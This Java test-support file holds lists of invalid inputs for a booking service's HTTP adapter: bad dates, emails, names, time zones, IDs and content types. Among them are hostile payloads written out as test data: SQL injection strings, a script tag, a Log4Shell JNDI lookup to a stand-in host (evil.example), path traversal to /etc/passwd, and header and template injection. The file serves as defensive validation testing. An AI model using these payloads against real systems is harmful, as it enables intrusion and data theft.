package com.metalogics.booking.adapter.http.hostile;

import java.util.List;
import java.util.Random;

/** Values that must never be accepted where they are used: each list is wrong for its field. */
final class HostileValues {

  private HostileValues() {}

  static final List<String> INJECTIONS =
      List.of(
          "'; DROP TABLE bookings; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "../../../../etc/passwd",
          "%00%0d%0aSet-Cookie: x=1",
          "{{7*7}}",
          "\u0000\u0001\u0002",
          "\uD83D\uDCA3\u202E\u0301\u0301",
          "Ｆｕｌｌｗｉｄｔｈ",
          "\uFEFF");

  /**
   * Text no field may hold: control characters (tab and line feed are allowed in a message or a
   * cancel reason only, so neither is here) and an unpaired surrogate. PostgreSQL refuses U+0000.
   */
  static final List<String> CONTROL_TEXTS =
      List.of(
          "a\u0000b",
          "\u0000",
          "nul at the end\u0000",
          "bell\u0007",
          "esc\u001b[31mred",
          "del\u007f",
          "carriage\rreturn",
          "next line\u0085",
          "lone \ud800 surrogate");

  static final List<String> BAD_INSTANTS =
      List.of(
          "2026-13-01T00:00:00Z",
          "2026-12-02T15:00:00",
          "2026-12-02",
          "yesterday",
          "",
          "   ",
          "2020-01-01T15:00:00Z",
          "+999999999-12-31T23:59:59Z",
          "-999999999-01-01T00:00:00Z",
          "2026-12-02T15:07:00Z",
          "2026-12-06T15:00:00Z",
          "2026-12-02T03:00:00Z",
          "2027-12-02T15:00:00Z",
          "2026-11-30T13:00:00Z",
          "2026-12-02T15:00:00+25:00",
          "２０２６-12-02T15:00:00Z",
          "2026-12-02T15:00:00.999999999999Z",
          "1e10",
          "2026-02-30T15:00:00Z",
          "9999-12-31T23:59:59Z",
          "2026-12-03T15:00:00Z\u0000");

  static final List<String> BAD_EMAILS =
      List.of(
          "no-at-sign",
          "a@b",
          "a@@b.com",
          "<script>@x.com",
          "' OR 1=1 --@x.com",
          "ü@exämple.com",
          "a".repeat(300) + "@x.com",
          "a@b..com",
          "\uD83D\uDE00@x.com",
          "",
          "   ",
          "a b@c.com");

  static final List<String> BAD_NAMES =
      List.of("", "   ", "\u0000", "a".repeat(201), "bell\u0007", "tab\tname", "line\nbreak");

  static final List<String> BAD_ZONES =
      List.of(
          "Mars/Olympus_Mons",
          "../../etc/passwd",
          "UTC+99",
          "GMT+25:00",
          "America/New\u0000York",
          "Europe/" + "x".repeat(500),
          "'; DROP TABLE x;--");

  /** JSON literals of the wrong type for a string field. */
  static final List<String> NOT_STRINGS =
      List.of(
          "42",
          "-1",
          "1e400",
          "99999999999999999999999",
          "true",
          "[]",
          "[\"a\"]",
          "{}",
          "{\"a\":1}");

  /** JSON literals that are not an allowed duration. */
  static final List<String> BAD_DURATIONS =
      List.of(
          "0",
          "-15",
          "31",
          "30.5",
          "1e400",
          "99999999999999999999",
          "2147483648",
          "-2147483649",
          "\"30\"",
          "\"thirty\"",
          "[]",
          "{}",
          "true",
          "1" + "0".repeat(2000),
          "3.0e1",
          "NaN");

  static final List<String> BAD_CONTENT_TYPES =
      List.of(
          "text/plain",
          "application/xml",
          "multipart/form-data; boundary=xyz",
          "application/x-www-form-urlencoded",
          "text/json",
          "application/jsonp",
          "application/octet-stream",
          "*/*");

  static final List<String> BAD_IDS =
      List.of(
          "not-a-uuid",
          "123",
          "00000000-0000-0000-0000-00000000000g",
          "%27%20OR%201%3D1",
          "%2e%2e%2f%2e%2e%2fetc",
          "x".repeat(500),
          "%F0%9F%92%A3",
          "0000000000000000000000000000000000000",
          "null",
          "%00");

  static <T> T pick(Random random, List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  static String jsonString(String value) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : value.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20 || c == 0x7f || Character.isSurrogate(c)) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }
}
